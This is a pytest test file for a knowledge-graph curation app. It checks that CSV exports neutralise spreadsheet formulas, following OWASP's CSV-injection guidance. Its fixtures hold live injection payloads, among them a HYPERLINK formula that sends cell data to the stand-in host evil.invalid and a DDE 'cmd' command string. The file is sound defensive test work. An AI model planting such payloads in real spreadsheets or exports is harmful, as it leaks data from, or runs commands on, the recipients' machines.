"""CSV exports for curators: spreadsheet formulas are neutralised (OWASP's CSV-injection rule)
in every export, through the one helper vlkge.spreadsheet."""
from __future__ import annotations

import csv
import io

import pytest

from helpers import write_graph
from vlkge.data.readers import load_graph
from vlkge.app import selection_csv
from vlkge.curation.audit import AuditStore
from vlkge.spreadsheet import FORMULA_PREFIXES, neutralise, spreadsheet_csv

HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A2)", "\t=1", "\r=1"]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell
    assert rows_of(spreadsheet_csv(["title"], [[cell]]))[1] == ["'" + cell]


def test_plain_text_and_numbers_are_unchanged():
    # text that reads as a negative number is still text: prefixed, as OWASP says
    assert neutralise("-3") == "'-3"
    # values that are numbers stay numbers, negative ones included
    assert neutralise(-0.42) == -0.42 and neutralise(-3) == -3 and neutralise(None) is None
    for s in ("Water lilies", "a = b", "3 + 4", "it's", "'=already quoted", "", " =leading space"):
        assert neutralise(s) == s
    rows = rows_of(spreadsheet_csv(["id", "score"], [["a", -0.42], ["=b", 1.5]]))
    assert rows == [["id", "score"], ["a", "-0.42"], ["'=b", "1.5"]]
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_quotes_commas_and_newlines_survive():
    cell = 'line one\n"quoted", comma'
    assert rows_of(spreadsheet_csv(["c"], [[cell], ["=x\ny"]]))[1:] == [[cell], ["'=x\ny"]]


def hostile_graph(folder):
    ents = [("=cmd|' /C calc'!A0", "artwork", '=HYPERLINK("http://evil.invalid/x","x")', "", ""),
            ("artist_a", "@type", "-Anon", "", ""),
            ("plain", "artwork", "Water lilies", "", "")]
    trip = [("=cmd|' /C calc'!A0", "+by", "artist_a", "train"), ("plain", "+by", "artist_a", "train")]
    return load_graph(write_graph(folder, ents, trip))


def test_embedding_map_selection_export_is_neutralised(tmp_path):
    g = hostile_graph(tmp_path / "g")
    rows = rows_of(selection_csv(g, [g.entity_index[e] for e in ("=cmd|' /C calc'!A0", "artist_a", "plain")]))
    assert rows == [["id", "label", "type"],
                    ["'=cmd|' /C calc'!A0", "'" + '=HYPERLINK("http://evil.invalid/x","x")', "artwork"],
                    ["artist_a", "'-Anon", "'@type"],
                    ["plain", "Water lilies", "artwork"]]


def test_audit_export_of_accepted_links_is_neutralised(tmp_path):
    store = AuditStore(tmp_path / "audit.sqlite")
    store.record("=cmd|' /C calc'!A0", "+by", "@artist", "plausible", "ann")
    store.record("plain", "by", "artist_a", "plausible", "ann")
    want = [["head", "relation", "tail", "mode"], ["'=cmd|' /C calc'!A0", "'+by", "'@artist", "train"],
            ["plain", "by", "artist_a", "train"]]
    assert rows_of(store.accepted_csv()) == want  # the app's download button
    out = tmp_path / "accepted.csv"
    assert store.export_accepted(out) == 2
    assert rows_of(out.read_bytes()) == want
